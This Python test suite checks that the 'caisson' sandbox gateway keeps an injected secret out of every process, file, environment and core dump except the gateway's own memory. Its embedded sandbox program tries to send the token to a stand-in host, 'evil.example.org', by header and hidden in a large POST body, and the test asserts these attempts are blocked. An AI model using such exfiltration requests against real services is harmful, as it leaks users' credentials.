#!/usr/bin/env python3
"""A secret's value is nowhere but in its gateway: a search of everything for one that nobody else can have.

A canary of 32 random bytes is given to `caisson run` as a secret, used against a server that says it again in several
forms, and then looked for, as it is and encoded, whole and in pieces: in the memory, the environment and the command
line of every process of ours and of the sandbox, in all that the sandbox can read and write, in every file of ours, and
in what a process of ours leaves that crashes. Each kind of place is also looked through for another value that was put
there, so that a search that finds nothing means something.

What is promised of each: the gateway has it, since it puts it into requests. Whoever makes the sandbox read it where
the caller has it, handed it over and wiped it; also in its environment. Nobody else has it at any time.

Runs in namespaces of its own (root alone, tests/lib/internet_lab.py). As root and as an ordinary user.
"""
import contextlib
import json
import os
import pathlib
import resource
import secrets
import shutil
import signal
import subprocess
import sys
import unittest

import frame  # noqa: F401  (its paths)

import canary
import harness
import internet_lab
import process_tree
from internet_lab import Server

STAGE = "CAISSON_GATEWAY_CANARY_STAGE"
BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
GOOD, EVIL = "93.184.10.1", "93.184.10.3"
ZONE = {"api.example.com": [GOOD], "evil.example.org": [EVIL]}
NET = ("--net", "allow:api.example.com", "--net", "inspect:evil.example.org")
# Inside: what of the lab's files the program may see, and the trees that are the host's own and not ours to fill.
LIBRARY, FOREIGN = "/mnt/canary.py", ("proc", "sys", "usr", "mnt")
PROGRAM = """
import base64, http.client, importlib.util, json, os, sys
token, planted = os.environ["API_TOKEN"], os.environ["PLANTED"]
def request(host, path, headers, method="GET", body=None):
    c = http.client.HTTPSConnection(host, timeout=20)
    try:
        c.request(method, path, body, headers); answer = c.getresponse()
        return [answer.status, answer.read().decode(errors="replace"), answer.headers.get("X-Echo")]
    except Exception as error: return [0, type(error).__name__, None]
bearer, b64 = {"Authorization": "Bearer " + token}, base64.b64encode
told = {form: request("api.example.com", "/" + form, bearer) for form in ("plain", "hex", "base64", "within", "header")}
told["basic"] = request("api.example.com", "/plain", {"Authorization": "Basic " + b64(("me:" + token).encode()).decode()})
told["evil"] = request("evil.example.org", "/planted-" + planted, bearer)
told["body"] = request("evil.example.org", "/b", {}, "POST", b"x" * 70000 + token.encode())
open("/tmp/planted", "w").write(planted)
print(json.dumps({"token": token, "told": told}), flush=True)
# Only now, when others have looked into this process: the values, which no file or argument has had.
mask, line = 0x5a, sys.stdin.readline()
spec = importlib.util.spec_from_file_location("canary", sys.argv[1]); canary = importlib.util.module_from_spec(spec); spec.loader.exec_module(canary)
found = {}
for name, masked in json.loads(line).items():
    forms = canary.forms(bytes(byte ^ mask for byte in bytes.fromhex(masked)))
    found[name] = canary.in_tree(forms, "/", sys.argv[2:])
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for what in ("environ", "cmdline"):
            if seen := canary.in_file(forms, f"/proc/{pid}/{what}"): found[name][f"/proc/{pid}/{what}"] = seen
print(json.dumps(found), flush=True)
"""
MASK = 0x5A
# As the kernel cuts their names.
OURS = ["caisson", "caisson-gateway", "caisson-guest", "caisson-launche", "caisson-superv"]


class Echo(internet_lab.Handler):
    """Says what it was sent as Authorization, in the form that the path asks for."""

    def do_GET(self):
        sent = self.headers.get("Authorization", "").rpartition(" ")[2].encode()
        answers = {"/hex": sent.hex().encode(), "/base64": canary.base64.b64encode(sent), "/within": canary.base64.b64encode(b"ab" + sent),
                   "/header": b"see the header"}
        data = answers.get(self.path, sent)
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        if self.path == "/header":
            self.send_header("X-Echo", sent.decode())
        self.end_headers()
        self.wfile.write(data)


def dumps_allowed():
    """Before the program starts, whatever the limit was for us."""
    most = resource.getrlimit(resource.RLIMIT_CORE)[1]
    resource.setrlimit(resource.RLIMIT_CORE, (most, most))


def status_of(pid):
    with open(f"/proc/{pid}/status") as file:
        return dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)


def names_of(pids):
    """{pid: name} of those that live."""
    found = {}
    for pid in pids:
        with contextlib.suppress(OSError):
            status = status_of(pid)
            if status["State"][0] != "Z":
                found[pid] = status["Name"]
    return found


def settled(launchers, wanted):
    """names_of() all below these where they are the wanted ones and no others; else nothing."""
    names = names_of([pid for launcher in launchers for pid, _, _ in process_tree.descendants(launcher)])
    return names if sorted(set(names.values())) == wanted else {}


class Run:
    """One run of caisson with the program, its processes by name, and what is searched for."""

    def __init__(self, test, caller, source, where=None):
        self.test, self.caller = test, caller
        self.value, self.planted = (secrets.token_urlsafe(32).encode() for _ in range(2))
        self.forms, self.planted_forms = canary.forms(self.value), canary.forms(self.planted)
        self.open = []
        self.audit, self.said = caller.home / "audit.jsonl", caller.folder / "said"
        library = caller.write("canary.py", pathlib.Path(canary.__file__).read_text(), 0o644)
        given, env, descriptors = getattr(self, f"by_{source}")()
        command = ("run", "--image", "host", "--audit", self.audit, *NET, "--secret", f"API_TOKEN={given}@api.example.com", "-e",
                   f"PLANTED={self.planted.decode()}", "--ro", f"{library}:{LIBRARY}", "--timeout", "2m", "--cpu-time", "2m", "--", "python3", "-c",
                   PROGRAM, LIBRARY, *FOREIGN)
        with open(self.said, "wb") as said:
            self.process = caller.popen(*command, env=env, pass_fds=descriptors, preexec_fn=dumps_allowed, stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, stderr=said)
        for fd in self.open:
            os.close(fd)
        line = self.process.stdout.readline()
        self.test.assertTrue(line, self.said.read_text())
        self.told = json.loads(line)

    # Where the caller has it, as (SOURCE of --secret, variables, descriptors).
    def by_env(self):
        return "env:CANARY", {"CANARY": self.value.decode()}, ()

    def by_file(self):
        return f"file:{self.caller.write('token', self.value, 0o600)}", {}, ()

    def by_fd(self):
        ours, end = os.pipe()
        os.write(end, self.value + b"\n")
        os.close(end)
        self.open.append(ours)
        return f"fd:{ours}", {}, (ours,)

    def processes(self):
        """{pid: its name}, of caisson's and of all below it."""
        return names_of(pid for pid, _, _ in process_tree.descendants(self.process.pid))

    def named(self, name):
        return [pid for pid, known in self.processes().items() if known == name]

    def files(self, forms):
        """What our folders, the caller's and what was said have of it, but for the file that the caller keeps it in."""
        return canary.in_tree(forms, self.caller.folder, ("token",))

    def finish(self):
        """Has the program look by itself; what it found of each."""
        masked = {name: bytes(byte ^ MASK for byte in value).hex() for name, value in (("value", self.value), ("planted", self.planted))}
        out, _ = self.process.communicate(json.dumps(masked).encode() + b"\n", timeout=60)
        self.test.assertEqual(self.process.returncode, 0, self.said.read_text())
        return json.loads(out)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.process.poll() is None:
            self.process.kill()
        self.process.communicate()


class Stage(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        cls.names = internet_lab.Names(ZONE)
        cls.internet = internet_lab.Internet(GOOD, EVIL)
        cls.addClassCleanup(cls.internet.close)
        cls.folder = harness.Caller("root")
        cls.addClassCleanup(cls.folder.close)
        authority, text = internet_lab.certificate(cls.folder.folder, "lab authority")
        bundle = cls.folder.write("bundle.pem", pathlib.Path(BUNDLE).read_text() + text, 0o644)
        subprocess.run(["mount", "--bind", bundle, BUNDLE], check=True)
        cls.addClassCleanup(subprocess.run, ["umount", BUNDLE], check=True)
        cls.servers = {}
        for name, (address,) in ZONE.items():
            certificate, _ = internet_lab.certificate(cls.folder.folder, name, signer=authority)
            cls.servers[name] = cls.internet.serve(Server, address, 443, certificate, handler=Echo)

    def each_caller(self):
        for kind in ("root", "user"):
            for server in self.servers.values():
                server.forget()
            with self.subTest(caller=kind), harness.Caller(kind) as caller:
                yield caller

    def assert_used(self, run):
        """The server got the value, and the program its placeholder in every answer."""
        token, told = run.told["token"], run.told["told"]
        self.assertIn(b"Bearer " + run.value + b"\r\n", self.servers["api.example.com"].received)
        self.assertEqual(self.servers["evil.example.org"].received, b"")
        self.assertEqual([told["plain"][:2], told["hex"][:2], told["header"][2]],
                         [[200, token], [200, token.encode().hex()], token])
        self.assertEqual([told[form][0] for form in ("basic", "within", "evil", "body")], [0, 0, 403, 403])

    def test_it_is_in_no_memory_environment_or_command_line_but_the_gateways(self):
        for caller in self.each_caller():
            for source in ("env", "file", "fd"):
                with self.subTest(source=source), Run(self, caller, source) as run:
                    self.assert_used(run)
                    processes = run.processes()
                    self.assertEqual(sorted(set(processes.values()) - {"python3"}), OURS,
                                     processes)
                    seen = {pid: canary.in_process(run.forms, pid) for pid in processes}
                    self.assertEqual({f"{processes[pid]} {where}" for pid, found in seen.items() for where in found}, {"caisson-gateway memory"}, seen)
                    # Each kind of process was looked through: what was planted is in the maker, in the guest that starts
                    # the command, and in the command.
                    seen = {(processes[pid], where) for pid in processes for where in canary.in_process(run.planted_forms, pid)}
                    self.assertLessEqual({("caisson", "cmdline"), ("caisson", "memory"), ("python3", "environ"), ("python3", "memory")}, seen)

    def test_it_is_in_no_file_of_ours_and_none_of_the_sandboxs(self):
        for caller in self.each_caller():
            for source in ("env", "file", "fd"):
                with self.subTest(source=source), Run(self, caller, source) as run:
                    command, = run.named("python3")
                    # All that is mounted inside, its writable layer too, as the host sees it.
                    self.assertEqual(canary.in_tree(run.forms, f"/proc/{command}/root", FOREIGN), {})
                    self.assertEqual(canary.in_tree(run.planted_forms, f"/proc/{command}/root", FOREIGN), {"tmp/planted": ["plain"]})
                    for name in ("run", "state"):
                        caller.write(caller.folder / name / "planted", run.planted)
                    self.assertEqual(run.files(run.forms), {})
                    inside = run.finish()
                    self.assertEqual(inside["value"], {})
                    done = caller.caisson("audit", "verify", run.audit)
                    self.assertEqual(done.returncode, 0, done)
                    self.assertEqual(inside["planted"].pop("tmp/planted"), ["plain"])
                    self.assertTrue([where for where in inside["planted"] if where.endswith("/environ")], inside)
                    # And when all of it is over. The path of a request is recorded, and has what was planted.
                    self.assertEqual(run.files(run.forms), {})
                    self.assertEqual(run.files(run.planted_forms), {"run/planted": ["plain"], "state/planted": ["plain"],
                                                                    "home/audit.jsonl": ["plain"]})

    def test_a_gateway_that_crashes_leaves_none_of_it(self):
        with open("/proc/sys/kernel/core_pattern") as file:
            here = file.read()[0] not in "|/"
        for caller in self.each_caller():
            with Run(self, caller, "env") as run:
                # That a process of this caller which may leave a core leaves one, and that it is found.
                cores = caller.mkdir("cores", 0o777)
                crash = subprocess.run([*caller.command()[:-1], "python3", "-c", "import os, sys; os.kill(os.getpid(), 6)"], cwd=cores,
                                       env={**caller.env, "PLANTED": run.planted.decode()}, preexec_fn=dumps_allowed, check=False)
                self.assertEqual(crash.returncode, -signal.SIGABRT)
                if here:
                    self.assertTrue(canary.in_tree(run.planted_forms, cores))
                gateway, = run.named("caisson-gateway")
                with open(f"/proc/{gateway}/limits") as file:
                    self.assertRegex(file.read(), r"Max core file size +0 +0 +bytes")
                # No dump, also where the limit does not count (a program that takes them): what is its own is root's.
                self.assertEqual(os.stat(f"/proc/{gateway}/environ").st_uid, 0)
                self.assertNotEqual(status_of(gateway)["Uid"].split()[0], "0")
                os.kill(gateway, signal.SIGABRT)
                self.assertTrue(harness.wait_until(lambda: status_of(gateway)["State"][0] == "Z" if os.path.exists(f"/proc/{gateway}") else True, 10))
                self.assertEqual(run.files(run.forms), {})
                self.assertEqual([path for path in pathlib.Path(caller.folder).rglob("*core*") if cores not in path.parents and path != cores], [])

    def test_of_a_sandbox_that_outlives_its_maker_only_the_gateway_has_it(self):
        script = """
import http.client, os
c = http.client.HTTPSConnection("api.example.com", timeout=20); c.request("GET", "/plain", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
print(c.getresponse().read().decode() == os.environ["API_TOKEN"])
"""
        for caller in self.each_caller():
            value, planted = (secrets.token_urlsafe(32) for _ in range(2))
            forms, planted_forms = canary.forms(value.encode()), canary.forms(planted.encode())
            made = caller.caisson("run", "-d", "--image", "host", "--audit", caller.home / "audit.jsonl", *NET, "--secret", "API_TOKEN=env:CANARY@api.example.com",
                                  "-e", f"PLANTED={planted}", "--", "sleep", "300", env={"CANARY": value})
            self.assertEqual(made.returncode, 0, made)
            sandbox = made.out.strip()
            try:
                used = caller.caisson("exec", sandbox, "--", "python3", "-c", script)
                self.assertEqual(used.out, "True\n", used)
                self.assertIn(b"Bearer " + value.encode(), self.servers["api.example.com"].received)
                # What the maker left is ours now (harness.subreaper); the lab's own processes are not looked at.
                here = os.getpid()
                launchers = [pid for pid, parent, _ in process_tree.descendants(here) if parent == here and names_of([pid]).get(pid) == "caisson-launche"]
                wanted = ["caisson-gateway", "caisson-guest", "caisson-launche", "caisson-superv", "sleep"]
                # Also until what used it has ended.
                names = harness.wait_until(lambda: settled(launchers, wanted), 10)
                self.assertTrue(names, names_of([pid for launcher in launchers for pid, _, _ in process_tree.descendants(launcher)]))
                seen = {pid: canary.in_process(forms, pid) for pid in names}
                self.assertEqual({f"{names[pid]} {where}" for pid, found in seen.items() for where in found}, {"caisson-gateway memory"}, seen)
                self.assertIn(("sleep", "environ"), {(names[pid], where) for pid in names for where in canary.in_process(planted_forms, pid)})
                self.assertEqual(canary.in_tree(forms, caller.folder), {})
            finally:
                caller.caisson("kill", sandbox)
            self.assertEqual(canary.in_tree(forms, caller.folder), {})

    def test_a_run_that_cannot_start_says_nothing_of_it(self):
        for caller in self.each_caller():
            value = secrets.token_urlsafe(32)
            forms = canary.forms(value.encode())
            broken = {"too long": value * 100, "no text": value + "\x01" + value}
            for name, text in broken.items():
                for source in ("env", "file"):
                    with self.subTest(value=name, source=source):
                        given = "env:CANARY" if source == "env" else f"file:{caller.write('token', text, 0o600)}"
                        done = caller.caisson("run", "--image", "host", *NET, "--secret", f"API_TOKEN={given}@api.example.com", "--", "true",
                                              env={"CANARY": text} if source == "env" else {})
                        self.assertEqual((done.returncode, forms.seen(done.stdout + done.stderr)), (125, []), done)
                        self.assertIn("secrets.API_TOKEN", done.err)
                        with contextlib.suppress(FileNotFoundError):
                            os.unlink(caller.folder / "token")
                        self.assertEqual(canary.in_tree(forms, caller.folder), {})


if __name__ == "__main__":
    harness.require_programs()
    harness.subreaper()
    if os.environ.get(STAGE):
        unittest.main(argv=[sys.argv[0], *(sys.argv[1:] or ["Stage"])], verbosity=2)
    if os.geteuid() != 0 or not all(map(shutil.which, ("unshare", "ip", "openssl"))) or not os.path.exists(BUNDLE):
        print("left out: the gateway is tested as root alone, with unshare, ip, openssl and ca-certificates", file=sys.stderr)
        sys.exit(os.environ.get("CI") == "true")
    sys.exit(internet_lab.enter(__file__, sys.argv[1:] or ["Stage"], STAGE))
